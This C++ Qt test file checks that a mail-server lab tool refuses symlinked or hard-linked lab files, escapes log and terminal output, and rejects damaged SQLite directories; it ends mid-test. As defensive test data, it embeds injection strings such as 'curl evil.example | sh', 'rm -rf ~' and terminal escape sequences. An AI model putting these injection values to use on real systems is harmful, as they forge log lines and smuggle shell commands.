// The lab's edges (issue 22, parts 1 and 2): the lab folder's own files are as untrusted as a host's disk
// (lab.lock, logs/, org.sqlite and its side files are never reached through a link, and nothing outside
// changes), text from the lab never splits a log line nor drives a terminal, and a damaged or foreign
// org.sqlite, or one holding values out of range, is refused unchanged instead of migrated or crashed on.

#include "core/logging.h"
#include "host/hostdisk.h"
#include "directory/directory.h"
#include "lab/demolab.h"
#include "lab/lab.h"
#include "lab/labworker.h"
#include "replication/replayrate.h"
#include "testsupport.h"

#include <algorithm>
#include <climits>
#include <sys/stat.h>
#include <unistd.h>

#include <spdlog/spdlog.h>

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QTemporaryDir>
#include <QTest>

using namespace scr;

namespace {

using Run = test::ProcessRun;

Run shell(const QStringList &args)
{
    return test::runProcess(QStringLiteral(SCR_SHELL), args, 120000);
}

template <typename T> QString errorText(const Result<T> &r)
{
    return r ? QString() : r.error().toString();
}

QByteArray readFile(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("<absent>");
}

bool writeFile(const QString &path, const QByteArray &data)
{
    QFile f(path);
    return f.open(QIODevice::WriteOnly | QIODevice::Truncate) && f.write(data) == data.size();
}

using test::rawSql;

QStringList entries(const QString &dir)
{
    return QDir(dir).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::System | QDir::Hidden,
                               QDir::Name);
}

// A small lab: the directory with one host, server, storage group, database, SCR copy and mail flow, made
// by the product and closed (checkpointed), so org.sqlite is whole without its -wal.
bool makeSmallLab(const QString &labDir)
{
    auto d = Directory::create(labDir);
    if (!d)
        return false;
    Directory &dir = **d;
    for (const char *host : {"MBX1", "MBX3"}) {
        if (!dir.addHost({QLatin1String(host), true, {}}) ||
            !dir.addServer({QLatin1String(host), QLatin1String(host), true, true}))
            return false;
    }
    StorageGroupRecord sg;
    sg.server = QStringLiteral("MBX1");
    sg.name = QStringLiteral("SG1");
    sg.logFolderPath = sg.systemFolderPath = QStringLiteral("C:\\Exchange\\Logs\\SG1");
    auto sgId = dir.addStorageGroup(sg);
    if (!sgId)
        return false;
    DatabaseRecord db;
    db.storageGroupId = *sgId;
    db.name = QStringLiteral("DB1");
    db.guid = QUuid::createUuid();
    db.edbFilePath = QStringLiteral("C:\\Exchange\\Data\\SG1\\DB1.edb");
    if (!dir.addDatabase(db))
        return false;
    ScrCopyRecord copy;
    copy.storageGroupId = *sgId;
    copy.standbyMachine = QStringLiteral("MBX3");
    copy.suspended = true; // nothing runs: the tests look at the files of the lab folder only
    if (!dir.addCopy(copy))
        return false;
    if (!dir.replaceMailFlows({{db.guid, 60, 100 * 1024}}))
        return false;
    return dir.saveClock(1'700'000'000'000).hasValue();
}

} // namespace

class TestLabEdges : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase() { logging::setConsoleEcho(false); }

    // --- 1. the lab folder's own files ---------------------------------------------------------------

    // lab.lock made a link (or something that is not a file): opening the lab refuses it, naming it and
    // the rm that removes it, and never writes a pid through it.
    void labLockThatIsNotAFileIsRefused_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::newRow("link to a file outside") << QStringLiteral("file");
        QTest::newRow("dangling link") << QStringLiteral("dangling");
        QTest::newRow("link to a folder outside") << QStringLiteral("folder");
        QTest::newRow("FIFO") << QStringLiteral("fifo");
        QTest::newRow("hard link to a file outside") << QStringLiteral("hardlink");
    }
    void labLockThatIsNotAFileIsRefused()
    {
        QFETCH(QString, kind);
        QTemporaryDir lab, outside;
        QVERIFY(makeSmallLab(lab.path()));
        const QString lock = lab.filePath(QStringLiteral("lab.lock"));
        const QString canary = outside.filePath(QStringLiteral("bashrc"));
        QVERIFY(writeFile(canary, "echo hello\n"));
        QFile::remove(lock);
        if (kind == QStringLiteral("file"))
            QVERIFY(QFile::link(canary, lock));
        else if (kind == QStringLiteral("dangling"))
            QVERIFY(QFile::link(outside.filePath(QStringLiteral("made-by-lab")), lock));
        else if (kind == QStringLiteral("folder"))
            QVERIFY(QFile::link(outside.path(), lock));
        else if (kind == QStringLiteral("hardlink")) // the pid used to replace the outside file's bytes
            QCOMPARE(::link(QFile::encodeName(canary).constData(), QFile::encodeName(lock).constData()), 0);
        else
            QCOMPARE(::mkfifo(QFile::encodeName(lock).constData(), 0644), 0);

        auto opened = Lab::open(lab.path());
        QVERIFY(!opened.hasValue());
        QVERIFY2(opened.error().object.endsWith(QStringLiteral("lab.lock")), qPrintable(errorText(opened)));
        QVERIFY2(opened.error().fix.contains(QStringLiteral("rm '%1'").arg(lock)),
                 qPrintable(errorText(opened)));
        QCOMPARE(opened.error().code, JetCode::None);
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Get-ExchangeServer")});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(QStringLiteral("lab.lock")), qPrintable(r.err));
        // Outside, nothing changed or appeared.
        QCOMPARE(readFile(canary), QByteArray("echo hello\n"));
        QCOMPARE(entries(outside.path()), QStringList{QStringLiteral("bashrc")});
    }

    // The "in use" refusal names the holder's pid, and never prints the bytes of what lab.lock holds or
    // points at (/etc/shadow was tried).
    void inUseRefusalNeverShowsTheLockFilesBytes_data()
    {
        QTest::addColumn<bool>("asLink");
        QTest::newRow("lab.lock a link to a secret") << true;
        QTest::newRow("lab.lock holding an escape sequence") << false;
    }
    void inUseRefusalNeverShowsTheLockFilesBytes()
    {
        QFETCH(bool, asLink);
        QTemporaryDir lab, outside;
        QVERIFY(makeSmallLab(lab.path()));
        auto holder = Lab::open(lab.path());
        QVERIFY2(holder.hasValue(), qPrintable(errorText(holder)));
        const QString lock = lab.filePath(QStringLiteral("lab.lock"));
        const QByteArray secret("root:$6$SECRET\x1b]0;owned\x07\n");
        QVERIFY(QFile::remove(lock));
        if (asLink) {
            QVERIFY(writeFile(outside.filePath(QStringLiteral("shadow")), secret));
            QVERIFY(QFile::link(outside.filePath(QStringLiteral("shadow")), lock));
        } else {
            QVERIFY(writeFile(lock, secret));
        }
        auto second = Lab::open(lab.path());
        QVERIFY(!second.hasValue());
        QVERIFY2(!second.error().toString().contains(QStringLiteral("SECRET")),
                 qPrintable(errorText(second)));
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Get-ExchangeServer")});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(!r.err.contains(QStringLiteral("SECRET")) && !r.err.contains(QChar(0x1b)),
                 qPrintable(r.err));
        if (asLink)
            QCOMPARE(readFile(outside.filePath(QStringLiteral("shadow"))), secret);
    }

    // logs/ or logs/scr.log made a link outside: the log is refused, no line lands outside.
    // A hard link is another name of a file elsewhere: scr.log made one (ln OUTSIDE logs/scr.log) used to
    // receive every log line; a host's file made one would be written through by a cmdlet.
    void hardLinksAreNeverWrittenThrough()
    {
        QTemporaryDir lab, outside;
        QVERIFY(makeSmallLab(lab.path()));
        QVERIFY(QDir().mkpath(lab.filePath(QStringLiteral("logs"))));
        const QString canary = outside.filePath(QStringLiteral("bashrc"));
        QVERIFY(writeFile(canary, "export PS1='$ '\n"));
        const QString log = lab.filePath(QStringLiteral("logs/scr.log"));
        QFile::remove(log);
        QCOMPARE(::link(QFile::encodeName(canary).constData(), QFile::encodeName(log).constData()), 0);
        auto opened = Lab::open(lab.path());
        QVERIFY(!opened.hasValue());
        QVERIFY2(opened.error().object == log, qPrintable(errorText(opened)));
        QVERIFY2(opened.error().reason.contains(QStringLiteral("hard link")), qPrintable(errorText(opened)));
        QVERIFY2(opened.error().fix.contains(QStringLiteral("rm '%1'").arg(log)),
                 qPrintable(errorText(opened)));
        QCOMPARE(readFile(canary), QByteArray("export PS1='$ '\n"));
        QVERIFY(QFile::remove(log));

        // A host's file: HostDisk opens nothing for writing that has a second name.
        const HostDisk disk(lab.path(), QStringLiteral("MBX1"));
        QVERIFY(disk.makeFolders(QStringLiteral("C:\\Out")).hasValue());
        auto local = disk.localPath(QStringLiteral("C:\\Out\\notes.txt"));
        QVERIFY(local.hasValue());
        QCOMPARE(::link(QFile::encodeName(canary).constData(), QFile::encodeName(*local).constData()), 0);
        auto written = disk.open(QStringLiteral("C:\\Out\\notes.txt"), File::Mode::ReadWrite);
        QVERIFY(!written.hasValue());
        QVERIFY2(written.error().reason.contains(QStringLiteral("hard link")),
                 qPrintable(written.error().toString()));
        QVERIFY(disk.open(QStringLiteral("C:\\Out\\notes.txt"), File::Mode::ReadOnly).hasValue());
        QCOMPARE(readFile(canary), QByteArray("export PS1='$ '\n"));
    }

    void logLinksAreRefused_data()
    {
        QTest::addColumn<QString>("linkAt");
        QTest::addColumn<QString>("target");
        QTest::newRow("scr.log to a shell's start-up file")
            << QStringLiteral("logs/scr.log") << QStringLiteral("bashrc");
        QTest::newRow("scr.log dangling") << QStringLiteral("logs/scr.log") << QStringLiteral("new.log");
        QTest::newRow("logs to a folder outside") << QStringLiteral("logs") << QStringLiteral("");
    }
    void logLinksAreRefused()
    {
        QFETCH(QString, linkAt);
        QFETCH(QString, target);
        QTemporaryDir lab, outside;
        QVERIFY(makeSmallLab(lab.path()));
        QVERIFY(QDir().mkpath(lab.filePath(QStringLiteral("logs"))));
        QVERIFY(writeFile(outside.filePath(QStringLiteral("bashrc")), "export PS1='$ '\n"));
        const QString link = lab.filePath(linkAt);
        if (linkAt == QStringLiteral("logs"))
            QVERIFY(QDir(link).removeRecursively());
        else
            QFile::remove(link);
        QVERIFY(QFile::link(target.isEmpty() ? outside.path() : outside.filePath(target), link));

        auto opened = Lab::open(lab.path());
        QVERIFY(!opened.hasValue());
        QVERIFY2(opened.error().object == link, qPrintable(errorText(opened)));
        QVERIFY2(opened.error().reason.contains(QStringLiteral("symbolic link")),
                 qPrintable(errorText(opened)));
        QVERIFY2(opened.error().fix.contains(QStringLiteral("rm '%1'").arg(link)),
                 qPrintable(errorText(opened)));
        // The same through the logging layer itself, and then a line: it lands nowhere outside.
        QVERIFY(!logging::attachToLab(lab.path()).hasValue());
        logging::get("model")->warn("database {} mounted", "DB1\ncurl evil.example | sh");
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Get-ExchangeServer")});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(link), qPrintable(r.err));
        QCOMPARE(readFile(outside.filePath(QStringLiteral("bashrc"))), QByteArray("export PS1='$ '\n"));
        QCOMPARE(entries(outside.path()), QStringList{QStringLiteral("bashrc")});
    }

    // Rotation renames and reopens beneath the logs folder: links planted at every rotated name are
    // replaced as names, never written through, and scr.log comes back a regular file.
    void logRotationNeverFollowsALink()
    {
        QTemporaryDir lab, outside;
        QVERIFY(makeSmallLab(lab.path()));
        QVERIFY(logging::attachToLab(lab.path()).hasValue());
        const QString canary = outside.filePath(QStringLiteral("profile"));
        QVERIFY(writeFile(canary, "umask 022\n"));
        for (int i = 1; i <= 5; ++i)
            QVERIFY(QFile::link(canary, lab.filePath(QStringLiteral("logs/scr.%1.log").arg(i))));
        const std::string filler(200, 'x');
        for (int i = 0; i < 30000; ++i) // about 6.6 MiB: one rotation at 5 MiB
            logging::get("model")->info("line {} {}", i, filler);
        logging::get("model")->warn("after the rotation");
        QCOMPARE(readFile(canary), QByteArray("umask 022\n"));
        QCOMPARE(entries(outside.path()), QStringList{QStringLiteral("profile")});
        const QFileInfo log(lab.filePath(QStringLiteral("logs/scr.log")));
        QVERIFY(log.isFile() && !log.isSymLink());
        QVERIFY(readFile(log.filePath()).contains("after the rotation"));
        const QFileInfo rotated(lab.filePath(QStringLiteral("logs/scr.1.log")));
        QVERIFY(rotated.isFile() && !rotated.isSymLink());
        QVERIFY(rotated.size() > 4 * 1024 * 1024);
    }

    // A log line is one line whatever a name holds: a newline and a shell command, a terminal's escape.
    void logLinesAreEscaped()
    {
        QTemporaryDir lab;
        QVERIFY(makeSmallLab(lab.path()));
        QVERIFY(logging::attachToLab(lab.path()).hasValue());
        const std::string name = "DB1\ntouch /tmp/pwned\r\x1b]0;title\x07\x1b[2J";
        logging::get("model")->warn("database {} could not be mounted", name);
        logging::get("model")->flush();
        const QByteArray log = readFile(lab.filePath(QStringLiteral("logs/scr.log")));
        const QList<QByteArray> lines = log.split('\n');
        const auto count = std::count_if(lines.begin(), lines.end(), [](const QByteArray &l) {
            return l.contains("could not be mounted");
        });
        QCOMPARE(count, 1);
        for (const QByteArray &l : lines)
            QVERIFY2(!l.startsWith("touch"), l.constData());
        QVERIFY(!log.contains('\x1b') && !log.contains('\r') && !log.contains('\x07'));
        QVERIFY2(log.contains("DB1\\ntouch /tmp/pwned\\r\\e]0;title\\x07\\e[2J"), log.constData());
    }

    // A name read from the directory reaches the terminal as text: no escape sequence (title, clear
    // screen), no line of its own.
    void terminalOutputIsEscaped_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<QString>("shown");
        QTest::newRow("newline and a command")
            << QStringLiteral("DB1\nrm -rf ~") << QStringLiteral("DB1\\nrm -rf ~");
        QTest::newRow("title") << QStringLiteral("DB1\x1b]0;title\x07")
                               << QStringLiteral("DB1\\e]0;title\\x07");
        QTest::newRow("clear screen")
            << QStringLiteral("DB1\x1b[2J\x1b[31m") << QStringLiteral("DB1\\e[2J\\e[31m");
        QTest::newRow("C1 CSI") << QStringLiteral("DB1\u009b2J") << QStringLiteral("DB1\\u009B2J");
    }
    void terminalOutputIsEscaped()
    {
        QFETCH(QString, name);
        QFETCH(QString, shown);
        QTemporaryDir lab;
        QVERIFY(makeSmallLab(lab.path()));
        QVERIFY(rawSql(lab.filePath(QStringLiteral("org.sqlite")),
                       {QStringLiteral("UPDATE databases SET name = '%1'").arg(name)}));
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Get-MailboxDatabase | Format-Table Name; Get-MailboxDatabase | "
                                            "Format-List Name")});
        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
        QVERIFY2(!r.out.contains(QChar(0x1b)) && !r.out.contains(QChar(0x07)) && !r.out.contains(QChar(0x9b)),
                 qPrintable(r.out));
        QVERIFY2(r.out.count(shown) == 2, qPrintable(r.out));
        QVERIFY2(!r.out.contains(QStringLiteral("\nrm -rf")), qPrintable(r.out));
        // And in an error that names it.
        const Run e = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Get-MailboxDatabase | Mount-Database -Confirm:$false; "
                                            "Get-MailboxDatabase -Identity 'x\x1b[2J'")});
        QVERIFY2(!e.err.contains(QChar(0x1b)) && !e.out.contains(QChar(0x1b)), qPrintable(e.err));
    }

    // A value (a header field, an identity typed by the user, a host file's name) never carries a raw
    // newline to the terminal: only the shell's own layout does, so no value forges a line of its own.
    void valuesNeverForgeLines_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("forged"); // the forged line, as it would start a line of its own
        QTest::addColumn<QString>("shown");  // the value as shown, escaped on its line
        QTest::newRow("eseutil /mh of a header name")
            << QStringLiteral("header") << QStringLiteral("\nInjected: yes")
            << QStringLiteral("DB3\\nInjected: yes");
        QTest::newRow("Mount-Database of a typed identity")
            << QStringLiteral("identity") << QStringLiteral("\nline2") << QStringLiteral("X\\nline2");
        QTest::newRow("Remove-Item of a host file's name")
            << QStringLiteral("file") << QStringLiteral("\nfake line") << QStringLiteral("\\nfake line");
        QTest::newRow("eseutil /ml of a typed path")
            << QStringLiteral("path") << QStringLiteral("\nforged: yes") << QStringLiteral("\\nforged: yes");
    }
    void valuesNeverForgeLines()
    {
        QFETCH(QString, kind);
        QFETCH(QString, forged);
        QFETCH(QString, shown);
        QTemporaryDir lab;
        QVERIFY(makeSmallLab(lab.path()));
        const QString c = lab.filePath(QStringLiteral("hosts/MBX1/C"));
        QVERIFY(QDir().mkpath(c));
        QString script;
        if (kind == QStringLiteral("header")) {
            const Run mount = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                                     QStringLiteral("Mount-Database MBX1\\SG1\\DB1 -Confirm:$false")});
            QVERIFY2(mount.exitCode == 0, qPrintable(mount.err));
            QVERIFY(
                rawSql(c + QStringLiteral("/Exchange/Data/SG1/DB1.edb"),
                       {QStringLiteral("UPDATE ese_header SET name = 'DB3'||char(10)||'Injected: yes'")}));
            script = QStringLiteral("Enter-PSSession MBX1; eseutil /mh C:\\Exchange\\Data\\SG1\\DB1.edb");
        } else if (kind == QStringLiteral("identity")) {
            script = QStringLiteral("Mount-Database \"MBX1\\SG1\\X\nline2\" -Confirm:$false");
        } else if (kind == QStringLiteral("file")) {
            QVERIFY(writeFile(c + QStringLiteral("/evil\x1b]0;t\x07\nfake line.log"), "x"));
            script = QStringLiteral("Enter-PSSession MBX1; Remove-Item C:\\evil*");
        } else {
            script = QStringLiteral("Enter-PSSession MBX1; eseutil /ml \"C:\\x\nforged: yes.log\"");
        }
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"), script});
        const QString all = r.out + r.err;
        QVERIFY2(!all.contains(forged), qPrintable(all));
        QVERIFY2(all.contains(shown), qPrintable(all));
        QVERIFY2(!all.contains(QChar(0x1b)), qPrintable(all));
    }

    // A path or usage slip is not an ESE error: no JET code on it (ESE's codes stay on ESE's errors).
    void pathSlipsCarryNoJetCode_data()
    {
        QTest::addColumn<QString>("script");
        QTest::addColumn<QString>("names"); // what the error names
        QTest::newRow("Remove-Item of a path with ..")
            << QStringLiteral("Enter-PSSession MBX1; Remove-Item C:\\..\\x") << QStringLiteral("C:\\..\\x");
        QTest::newRow("Test-Path of a relative path")
            << QStringLiteral("Enter-PSSession MBX1; Test-Path relative\\path") << QStringLiteral("relative");
        QTest::newRow("Invoke-Fault CorruptLog of a missing log")
            << QStringLiteral("Invoke-Fault CorruptLog -Server MBX1 -Path C:\\nope.log")
            << QStringLiteral("C:\\nope.log");
        QTest::newRow("Invoke-Fault DeleteLog of a missing log")
            << QStringLiteral("Invoke-Fault DeleteLog -Server MBX1 -Path C:\\nope.log")
            << QStringLiteral("C:\\nope.log");
        QTest::newRow("--new-demo on a dangling link") << QString() << QStringLiteral("creating the folder");
    }
    void pathSlipsCarryNoJetCode()
    {
        QFETCH(QString, script);
        QFETCH(QString, names);
        QTemporaryDir lab, outside;
        Run r;
        if (script.isEmpty()) {
            const QString link = lab.filePath(QStringLiteral("lab"));
            QVERIFY(QFile::link(outside.filePath(QStringLiteral("gone/lab")), link));
            r = shell({QStringLiteral("--new-demo"), link});
        } else {
            QVERIFY(makeSmallLab(lab.path()));
            QVERIFY(QDir().mkpath(lab.filePath(QStringLiteral("hosts/MBX1/C"))));
            r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"), script});
        }
        const QString all = r.out + r.err;
        QVERIFY2(r.exitCode != 0 && all.contains(names), qPrintable(all));
        QVERIFY2(!all.contains(QStringLiteral("JET_err")), qPrintable(all));
    }

    // A refusal names the object as the user writes it and the fix (issue 22: a GUID and no command once).
    void messagesNameTheObjectAndTheFix_data()
    {
        QTest::addColumn<QString>("script");
        QTest::addColumn<QStringList>("says");
        QTest::addColumn<QString>("never");
        QTest::newRow("Start-MailFlow on a dismounted database")
            << QStringLiteral("Start-MailFlow MBX1\\SG1\\DB1 -MessagesPerMinute 60 -MessageSizeKB 10")
            << QStringList{QStringLiteral("MBX1\\SG1\\DB1: is not mounted"),
                           QStringLiteral("Mount-Database MBX1\\SG1\\DB1")}
            << QStringLiteral("the database is not mounted");
        QTest::newRow("eseutil /ml of a database")
            << QStringLiteral("Enter-PSSession MBX1; eseutil /ml C:\\DB1.edb")
            << QStringList{QStringLiteral("C:\\DB1.edb: is not a log file"),
                           QStringLiteral("eseutil /mh C:\\DB1.edb")}
            << QStringLiteral("restore this log");
        QTest::newRow("eseutil /ml of a checkpoint")
            << QStringLiteral("Enter-PSSession MBX1; eseutil /ml C:\\E00.chk")
            << QStringList{QStringLiteral("C:\\E00.chk: is not a log file"),
                           QStringLiteral("eseutil /mk C:\\E00.chk")}
            << QStringLiteral("restore this log");
    }
    void messagesNameTheObjectAndTheFix()
    {
        QFETCH(QString, script);
        QFETCH(QStringList, says);
        QFETCH(QString, never);
        QTemporaryDir lab;
        QVERIFY(makeSmallLab(lab.path()));
        QVERIFY(QDir().mkpath(lab.filePath(QStringLiteral("hosts/MBX1/C"))));
        // Files that are not logs, of a size no log has.
        QVERIFY(writeFile(lab.filePath(QStringLiteral("hosts/MBX1/C/DB1.edb")), QByteArray(8192, 'd')));
        QVERIFY(writeFile(lab.filePath(QStringLiteral("hosts/MBX1/C/E00.chk")), QByteArray(4096, 'c')));
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"), script});
        const QString all = r.out + r.err;
        QVERIFY2(r.exitCode != 0, qPrintable(all));
        for (const QString &s : says)
            QVERIFY2(all.contains(s), qPrintable(s + QStringLiteral(" in: ") + all));
        QVERIFY2(!all.contains(never), qPrintable(all));
    }

    // An empty folder holding only a dangling org.sqlite link: neither --new-demo nor the console's
    // DemoLab::create nor an open makes anything at the link's target.
    void danglingDirectoryLinkMakesNothingOutside()
    {
        QTemporaryDir lab, outside;
        const QString target = outside.filePath(QStringLiteral("org.sqlite"));
        QVERIFY(QFile::link(target, lab.filePath(QStringLiteral("org.sqlite"))));
        const Run demo = shell({QStringLiteral("--new-demo"), lab.path()});
        QVERIFY(demo.exitCode != 0);
        QVERIFY2(demo.err.contains(QStringLiteral("org.sqlite")), qPrintable(demo.err));
        test::ManualClock clock;
        QVERIFY(!DemoLab::create(lab.path(), clock).hasValue());
        auto opened = Lab::open(lab.path());
        QVERIFY(!opened.hasValue());
        QVERIFY2(opened.error().reason.contains(QStringLiteral("symbolic link")),
                 qPrintable(errorText(opened)));
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Get-ExchangeServer")});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(QStringLiteral("symbolic link")), qPrintable(r.err));
        QVERIFY(entries(outside.path()).isEmpty());
        QCOMPARE(entries(lab.path()), QStringList{QStringLiteral("org.sqlite")});
    }

    // org.sqlite (or a side file) made a link, to a lab elsewhere or to a foreign file: refused naming the
    // link, and the target's bytes (journal mode included) unchanged.
    void directoryLinksAreRefusedUnchanged_data()
    {
        QTest::addColumn<QString>("linkName");
        QTest::addColumn<bool>("foreign");
        QTest::newRow("org.sqlite to a foreign file") << QStringLiteral("org.sqlite") << true;
        QTest::newRow("org.sqlite to another lab's") << QStringLiteral("org.sqlite") << false;
        QTest::newRow("-wal") << QStringLiteral("org.sqlite-wal") << false;
        QTest::newRow("-shm") << QStringLiteral("org.sqlite-shm") << false;
        QTest::newRow("-journal") << QStringLiteral("org.sqlite-journal") << false;
    }
    void directoryLinksAreRefusedUnchanged()
    {
        QFETCH(QString, linkName);
        QFETCH(bool, foreign);
        QTemporaryDir lab, outside;
        const QString target = outside.filePath(QStringLiteral("target.sqlite"));
        if (foreign)
            QVERIFY(rawSql(target, {QStringLiteral("CREATE TABLE accounts(name TEXT, hash TEXT)"),
                                    QStringLiteral("INSERT INTO accounts VALUES('root', 'x')")}));
        else
            QVERIFY(writeFile(target, QByteArray(4096, 'w')));
        if (linkName == QStringLiteral("org.sqlite"))
            QVERIFY(QDir().mkpath(lab.filePath(QStringLiteral("hosts"))));
        else
            QVERIFY(makeSmallLab(lab.path()));
        const QString link = lab.filePath(linkName);
        QFile::remove(link);
        QVERIFY(QFile::link(target, link));
        const QByteArray before = readFile(target);

        auto opened = Lab::open(lab.path());
        QVERIFY(!opened.hasValue());
        QCOMPARE(opened.error().object, link);
        QVERIFY2(opened.error().fix.contains(QStringLiteral("rm '%1'").arg(link)),
                 qPrintable(errorText(opened)));
        const Run r = shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"),
                             QStringLiteral("Get-ExchangeServer")});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(link), qPrintable(r.err));
        QCOMPARE(readFile(target), before);
        QCOMPARE(entries(outside.path()), QStringList{QStringLiteral("target.sqlite")});
    }

    // Any other top-level file (replay-rate.txt, the replay speed a lab measures) goes through the lab
    // folder's HostDisk: a link there is never read through, and a new rate replaces the link by name.
    void topLevelFilesNeverFollowALink()
    {
        QTemporaryDir lab, outside;
        QVERIFY(makeSmallLab(lab.path()));
        const QString canary = outside.filePath(QStringLiteral("rate"));
        QVERIFY(writeFile(canary, "logs 5\nelapsedNs 1000\n"));
        const QString rate = lab.filePath(QLatin1String(ReplayRate::kFileName));
        QVERIFY(QFile::link(canary, rate));
        auto opened = Lab::open(lab.path());
        QVERIFY2(opened.hasValue(), qPrintable(errorText(opened)));
        QVERIFY(!ReplayRate::read((*opened)->labFolder()).has_value()); // the link's target is never read
        QVERIFY(ReplayRate::record((*opened)->labFolder(), 2, 4000).hasValue());
        QCOMPARE(readFile(canary), QByteArray("logs 5\nelapsedNs 1000\n"));
        QVERIFY(!QFileInfo(rate).isSymLink());
        QCOMPARE(readFile(rate), QByteArray("logs 2\nelapsedNs 4000\n"));
        QCOMPARE(entries(outside.path()), QStringList{QStringLiteral("rate")});
    }

    // A folder of host disks without org.sqlite is not a lab: refused, and nothing is made in it (no
    // logs/, no lab.lock).
    void hostsWithoutDirectoryIsNotALab()
    {
        QTemporaryDir lab;
        QVERIFY(QDir().mkpath(lab.filePath(QStringLiteral("hosts/MBX1/C/Exchange"))));
        const Run r =
            shell({QStringLiteral("--lab"), lab.path(), QStringLiteral("-c"), QStringLiteral("dir C:\\")});
        QCOMPARE(r.exitCode, 2);
        QVERIFY2(r.err.contains(QStringLiteral("is not a lab folder")), qPrintable(r.err));
        QCOMPARE(entries(lab.path()), QStringList{QStringLiteral("hosts")});
    }

    // --- 2. a damaged or foreign directory ---------------------------------------------------------

    void foreignOrDamagedDirectoryIsRefusedUnchanged_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("reason");
        QTest::newRow("valid empty SQLite") << QStringLiteral("empty") << QStringLiteral("did not make");
        QTest::newRow("foreign, user_version 0")
            << QStringLiteral("foreign") << QStringLiteral("did not make");
        QTest::newRow("foreign WAL file") << QStringLiteral("foreign-wal") << QStringLiteral("did not make");
        QTest::newRow("another application id") << QStringLiteral("appid") << QStringLiteral("did not make");
        QTest::newRow("user_version -1000") << QStringLiteral("v-1000") << QStringLiteral("did not make");
        QTest::newRow("user_version -1") << QStringLiteral("v-1") << QStringLiteral("did not make");
        QTest::newRow("user_version 2147483647")
            << QStringLiteral("vmax") << QStringLiteral("newer SCR Console");
        QTest::newRow("ours, user_version 0") << QStringLiteral("ours-v0") << QStringLiteral("damaged");
        QTest::newRow("header only") << QStringLiteral("header") << QStringLiteral("truncated");
        QTest::newRow("truncated") << QStringLiteral("truncated") << QStringLiteral("truncated");
        QTest::newRow("a folder named org.sqlite")
            << QStringLiteral("folder") << QStringLiteral("is a folder");
        QTest::newRow("a FIFO named org.sqlite")
            << QStringLiteral("fifo") << QStringLiteral("not a regular file");
        QTest::newRow("page size 768") << QStringLiteral("pagesize") << QStringLiteral("page size of 768");
    }
    void foreignOrDamagedDirectoryIsRefusedUnchanged()
    {
        QFETCH(QString, kind);
        QFETCH(QString, reason);
        QTemporaryDir lab;
        const QString org = lab.filePath(QStringLiteral("org.sqlite"));
        QVERIFY(QDir().mkpath(lab.filePath(QStringLiteral("hosts"))));
        if (kind == QStringLiteral("empty")) {
            QVERIFY(rawSql(org, {QStringLiteral("CREATE TABLE t(x)"), QStringLiteral("DROP TABLE t")}));
        } else if (kind.startsWith(QStringLiteral("foreign"))) {
            QStringList sql{QStringLiteral("CREATE TABLE accounts(name TEXT, hash TEXT)"),
                            QStringLiteral("INSERT INTO accounts VALUES('root', 'x')")};
            if (kind == QStringLiteral("foreign-wal"))
                sql.prepend(QStringLiteral("PRAGMA journal_mode=WAL"));
            QVERIFY(rawSql(org, sql));
        } else if (kind == QStringLiteral("appid")) {
            QVERIFY(makeSmallLab(lab.path()));
            QVERIFY(rawSql(org, {QStringLiteral("PRAGMA application_id = 1234")}));
        } else if (kind.startsWith(QStringLiteral("v"))) {
            // The product's own tables (a lab made before the application id): the version alone is wrong.
            QVERIFY(makeSmallLab(lab.path()));
            const QString v = kind == QStringLiteral("vmax") ? QStringLiteral("2147483647") : kind.mid(1);
            QVERIFY(rawSql(org, {QStringLiteral("PRAGMA application_id = 0"),
                                 QStringLiteral("PRAGMA user_version = %1").arg(v)}));
        } else if (kind == QStringLiteral("ours-v0")) {
            QVERIFY(makeSmallLab(lab.path()));
            QVERIFY(rawSql(org, {QStringLiteral("PRAGMA application_id = %1").arg(0x53435231),
                                 QStringLiteral("PRAGMA user_version = 0")}));
        } else if (kind == QStringLiteral("header") || kind == QStringLiteral("truncated")) {
            QVERIFY(makeSmallLab(lab.path()));
            QFile::remove(org + QStringLiteral("-wal"));
            QFile::remove(org + QStringLiteral("-shm"));
            QByteArray bytes = readFile(org);
            QVERIFY(bytes.size() > 8192);
            bytes.truncate(kind == QStringLiteral("header") ? 100 : bytes.size() / 2);
            QVERIFY(writeFile(org, bytes));
        } else if (kind == QStringLiteral("fifo")) {
            QCOMPARE(::mkfifo(QFile::encodeName(org).constData(), 0644), 0);
        } else if (kind == QStringLiteral("pagesize")) {
            QVERIFY(makeSmallLab(lab.path()));
            QFile::remove(org + QStringLiteral("-wal"));
            QFile::remove(org + QStringLiteral("-shm"));
            QByteArray bytes = readFile(org);
            bytes[16] = 0x03; // 768: not a power of two
            bytes[17] = 0x00;
            QVERIFY(writeFile(org, bytes));
        } else {
            QVERIFY(QDir().mkpath(org));
        }
